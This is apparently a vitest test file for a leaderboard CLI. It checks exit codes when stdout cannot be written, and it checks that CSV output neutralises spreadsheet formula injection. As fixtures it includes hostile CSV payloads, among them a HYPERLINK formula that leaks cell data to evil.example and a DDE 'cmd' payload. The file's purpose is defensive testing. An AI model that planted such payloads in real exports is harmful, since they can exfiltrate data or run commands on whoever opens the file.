import { spawn } from 'node:child_process';
import { closeSync, mkdtempSync, openSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { reviewCsv, salusCsv } from '../src/audit/outputs.js';
import type { AuditReport } from '../src/audit/pipeline.js';
import { readErrorFlags } from '../src/benchmark/error-flags.js';
import { csvField } from '../src/report/csv.js';
import { ROOT, runCli } from './helpers/cli.js';

const dir = mkdtempSync(join(tmpdir(), 'sqlboard-output-'));
const board = join(dir, 'board.csv');
// (The board reader trims names, so TAB and CR are checked on csvField itself.)
const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3'];
writeFileSync(
  board,
  ['system,dev,test', 'Plain system,70,71', ...HOSTILE.map((name, i) => `"${name.replace(/"/g, '""')}",${60 - i},${61 - i}`)].join('\n') + '\n',
);
const BOARD = ['leaderboard', '--board', board, '--n', '1534', '--flawed', '564'];

/** Runs the CLI from source with stdout on `/dev/full`, or on a pipe whose reader has gone. */
function runWithStdout(args: string[], stdout: 'full' | 'closed'): Promise<{ code: number | null; stderr: string }> {
  const fd = stdout === 'full' ? openSync('/dev/full', 'w') : 'pipe';
  const child = spawn(process.execPath, ['--import', 'tsx', join(ROOT, 'src', 'cli.ts'), ...args], { cwd: ROOT, stdio: ['ignore', fd, 'pipe'] });
  if (typeof fd === 'number') closeSync(fd);
  // The reader closes the pipe before anything is written, as `| head -c 0` would.
  child.stdout?.destroy();
  let stderr = '';
  child.stderr!.on('data', (d) => (stderr += d));
  return new Promise((resolve) => child.on('close', (code) => resolve({ code, stderr })));
}

describe('a report that could not be written to stdout (issue 30, item 9)', () => {
  for (const format of ['--json', '--csv', '--md']) {
    for (const where of ['full', 'closed'] as const) {
      it(`${format} to ${where === 'full' ? '/dev/full' : 'a closed pipe'}: non-zero exit and a message`, async () => {
        const r = await runWithStdout([...BOARD, format], where);
        expect(r.stderr).toMatch(where === 'full' ? /printed on stdout is incomplete \(ENOSPC\)/ : /printed on stdout is incomplete \(EPIPE\): the reader closed the pipe/);
        expect(r.code).toBe(2);
      });
    }
  }

  it('written whole, the same report exits 0', async () => {
    const r = await runCli([...BOARD, '--json']);
    expect(r.code).toBe(0);
    expect(JSON.parse(r.stdout)).toHaveProperty('schemaVersion');
  });
});

describe('CSV injection in CSV output (issue 30, item 11)', () => {
  it('a system name a spreadsheet would run as a formula gets a leading quote; numbers, negative ones too, stay numbers', async () => {
    const out = join(dir, 'out.csv');
    const r = await runCli([...BOARD, '--csv', out]);
    expect(r.code).toBe(0);
    const csv = readFileSync(out, 'utf8');
    const cells = csv.split('\n').slice(1).filter(Boolean).map((l) => l.match(/^\d+,("(?:[^"]|"")*"|[^,]*)/)![1]!);
    expect(cells).toEqual([
      'Plain system',
      `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`,
      "'+cmd|' /C calc'!A0",
      "'@SUM(1+1)",
      "'-2+3",
    ]);
    expect([csvField('\tTAB'), csvField('\rCR'), csvField('-1.5e-3'), csvField('+7'), csvField('-')]).toEqual(["'\tTAB", `"'\rCR"`, '-1.5e-3', '+7', "'-"]);
    // Every cell of the table starts with no formula character unless it is a number.
    for (const line of csv.trim().split('\n')) for (const cell of line.split(',')) expect(cell).toMatch(/^(?![=+\-@\t\r])|^-?[\d.]+(e-?\d+)?$/);
    expect(csv).toMatch(/,-0\.\d+,/);
  });

  it('--csv-raw writes them as they are; without --csv it is an error', async () => {
    const r = await runCli([...BOARD, '--csv', '--csv-raw']);
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/\n\d,\+cmd\|' \/C calc'!A0,/);
    expect(r.stdout).toContain('"=HYPERLINK(');
    const bad = await runCli([...BOARD, '--csv-raw']);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/--csv-raw changes what --csv writes/);
  });

  it("audit's review.csv (opened by a person) quotes and neutralises task ids; flags.csv (read back by --flags) quotes them and keeps them exact", () => {
    const report = { flags: [{ taskId: '=1+1,x', flagged: true, score: 0.5, rank: 1, probability: 0.25 }] } as unknown as AuditReport;
    expect(reviewCsv(report).split('\n')[1]).toBe(`1,"'=1+1,x",0.500000,1,0.250000`);
    expect(salusCsv(report).split('\n')[1]).toBe(`"=1+1,x",0,0.500000`);
    const f = join(mkdtempSync(join(tmpdir(), 'sqlboard-flags-')), 'flags.csv');
    writeFileSync(f, salusCsv(report));
    expect(readErrorFlags(f)).toEqual(new Map([['=1+1,x', true]]));
  });
});
